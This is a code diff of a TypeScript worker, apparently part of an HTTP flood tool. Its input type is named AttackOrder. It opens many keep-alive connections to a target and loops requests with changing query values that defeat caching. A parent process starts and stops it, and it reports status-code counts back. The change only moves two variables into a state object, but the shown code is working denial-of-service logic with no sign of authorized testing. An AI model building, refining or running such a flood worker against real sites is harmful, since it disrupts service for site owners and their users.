@@ -18,13 +18,13 @@ export interface AttackOrder {
 
 const { target, paths, connections } = JSON.parse(process.argv[2] ?? '{}') as AttackOrder;
 const answers: Record<number, number> = {};
-let on = false;
-let asked = 0;
+const state = { on: false, asked: 0 };
 let running: Promise<unknown> = Promise.resolve();
 
 async function connection(agent: Agent): Promise<void> {
-  while (on) {
-    asked += 1;
+  while (state.on) {
+    state.asked += 1;
+    const { asked } = state;
     const path = `${paths[asked % paths.length] ?? '/'}?page=${asked}&variant=${asked}`;
     const { status } = await askRaw(agent, target, path).catch(() => ({ status: 0 }));
     answers[status] = (answers[status] ?? 0) + 1;
@@ -32,7 +32,7 @@ async function connection(agent: Agent): Promise<void> {
 }
 
 function begin(): void {
-  on = true;
+  state.on = true;
   const agent = new Agent({ keepAlive: true, maxSockets: connections });
   const all = Array.from({ length: connections }, () => connection(agent));
   running = Promise.all(all).then(() => agent.destroy());
@@ -41,7 +41,7 @@ function begin(): void {
 process.on('message', (word) => {
   if (word === 'begin') begin();
   if (word !== 'end') return;
-  on = false;
+  state.on = false;
   void running.then(() => process.send?.(answers));
 });
 process.on('disconnect', () => process.exit(0));
